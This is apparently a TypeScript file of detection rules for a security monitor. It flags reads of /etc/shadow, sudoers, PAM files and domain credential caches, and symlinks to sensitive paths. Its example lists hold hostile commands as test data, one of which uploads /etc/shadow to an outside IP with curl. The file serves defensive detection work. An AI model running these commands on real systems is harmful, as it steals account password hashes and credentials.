import type { Indicator } from "../../indicator.ts";
import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
import { gated } from "../execution/needles.ts";
import { linkTarget, readsFile } from "./sensitive-files.ts";

/** Reading the system's own account databases, and making other ways to them. */

const shadow = /\/etc\/(?:(?:security\/)?(?:g?shadow|opasswd)(?:-|\.bak|\.old|~)?|master\.passwd)(?![\w.-])/;
const authentication =
  /\/etc\/(?:sudoers(?:\.d(?:\/[\w.-]*)?)?|pam\.conf|pam\.d(?:\/[\w.-]*)?|security\/pwquality\.conf|login\.defs)(?![\w.-])/;
const sensitivePlace =
  /^(?:\/(?:host|rootfs|mnt|proc\/1\/root))?(?:\/etc(?:\/(?:shadow|gshadow|sudoers|sudoers\.d|pam\.d|pam\.conf|passwd|kubernetes|ssh)?)?|\/root(?:\/\.ssh)?|\/home\/[^/]{1,64}\/\.ssh|\/var\/run\/docker\.sock|\/boot|\/)(?:\/[\w.-]*)?$/;

export const readsShadowFile: Indicator = {
  id: "reads-shadow-file",
  behaviour: "reads the password hashes in /etc/shadow",
  meaning: "The hashes can be cracked elsewhere, which gives the passwords of every local account, root's included.",
  technique: "T1003.008",
  tactic: "credential-access",
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1003/008/",
  match: gated(["shadow", "opasswd", "master.passwd"], readsFile(shadow)),
  examples: {
    found: [
      opened("/etc/shadow", "cat /etc/shadow", inContainer),
      ran("sh -c tail -n 5 /etc/shadow | base64", inContainer),
      ran("curl -F data=@/etc/shadow http://203.0.113.7/up"),
      opened("/host/etc/gshadow", "head /host/etc/gshadow", inContainer),
    ],
    ignored: [
      ran("ls -l /etc/shadow-maint"),
      ran("grep shadow /etc/nsswitch.conf"),
      opened("/usr/share/doc/shadow/README", "cat /usr/share/doc/shadow/README"),
      ran("stat /etc/shadow"),
    ],
  },
};

export const linksSensitiveFile: Indicator = {
  id: "links-sensitive-file",
  behaviour: "makes a link to a file or folder that holds accounts or credentials",
  meaning:
    "Through a link of another name the file is read or changed past rules and permissions that watch the real path.",
  technique: "T1003.008",
  tactic: "credential-access",
  alsoTechniques: ["T1552.001"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco_rules.yaml",
  match: gated(["link", "ln "], (facts) => linkTarget(facts, sensitivePlace) ?? linkTarget(facts, shadow)),
  examples: {
    found: [
      {
        "evt.type": "symlinkat",
        "evt.arg.target": "/etc",
        "evt.arg.linkpath": "/var/tmp/e",
        "proc.cmdline": "ln -s /etc /var/tmp/e",
        "proc.name": "ln",
      },
      {
        "evt.type": "linkat",
        "evt.arg.oldpath": "/etc/shadow",
        "evt.arg.newpath": "/tmp/.s",
        "proc.cmdline": "ln /etc/shadow /tmp/.s",
        "proc.name": "ln",
      },
      ran("ln -sf /root/.ssh /srv/www/keys", onHost),
    ],
    ignored: [
      ran("ln -sf /usr/share/zoneinfo/UTC /etc/localtime"),
      {
        "evt.type": "symlink",
        "evt.arg.target": "/etc/alternatives/java",
        "evt.arg.linkpath": "/usr/bin/java",
        "proc.cmdline": "update-alternatives --install /usr/bin/java java",
        "proc.name": "update-alternat",
      },
    ],
  },
};

export const readsAuthenticationConfiguration: Indicator = {
  id: "reads-authentication-configuration",
  behaviour: "reads how the system authenticates and who may become root (sudoers, PAM)",
  meaning: "It tells which accounts are worth stealing and which commands give root without a password.",
  technique: "T1003.008",
  tactic: "credential-access",
  alsoTechniques: ["T1201", "T1069.001"],
  severity: "medium",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://github.com/falcosecurity/rules/blob/main/rules/falco_rules.yaml",
  match: gated(["sudoers", "/etc/pam", "pwquality", "login.defs"], readsFile(authentication)),
  examples: {
    found: [
      opened("/etc/sudoers", "cat /etc/sudoers", onHost),
      opened("/etc/pam.d/common-auth", "less /etc/pam.d/common-auth", onHost),
      ran("grep -r NOPASSWD /etc/sudoers.d"),
    ],
    ignored: [ran("ls -l /etc/sudoers"), opened("/usr/share/doc/sudoers.txt", "cat /usr/share/doc/sudoers.txt")],
  },
};

export const readsDomainCredentialCache: Indicator = {
  id: "reads-domain-credential-cache",
  behaviour: "reads cached credentials of a directory service (SSSD, Samba, winbind)",
  meaning: "The cache holds hashes of domain accounts, so one host gives accounts that are valid on many.",
  technique: "T1003.005",
  tactic: "credential-access",
  severity: "high",
  certainty: "likely",
  platforms: ["Linux"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1003/005/",
  match: gated(
    ["/var/lib/sss/", "secrets.tdb", "secrets.ldb", "passdb.tdb", "netsamlogon_cache", ".secrets.mkey", "ntds.dit"],
    readsFile(
      /(?:\/var\/lib\/sss\/(?:db|secrets|mc)\/[\w.-]+|(?:secrets\.[tl]db|passdb\.tdb|netsamlogon_cache\.tdb|\.secrets\.mkey|ntds\.dit))/,
    ),
  ),
  examples: {
    found: [
      opened("/var/lib/sss/db/cache_corp.example.ldb", "tdbdump /var/lib/sss/db/cache_corp.example.ldb"),
      ran("cp /var/lib/samba/private/secrets.tdb /tmp/s"),
    ],
    ignored: [ran("ls -l /var/lib/sss/db"), opened("/var/lib/sssd.log", "cat /var/lib/sssd.log")],
  },
};
